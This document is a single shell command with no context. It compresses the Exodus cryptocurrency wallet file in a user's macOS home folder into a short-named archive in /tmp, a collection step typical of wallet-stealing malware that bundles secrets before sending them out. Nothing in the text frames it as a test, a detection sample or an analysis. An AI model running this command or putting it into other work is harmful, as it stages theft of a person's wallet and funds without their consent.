tar czf /tmp/e.tgz "$HOME/Library/Application Support/Exodus/exodus.wallet"
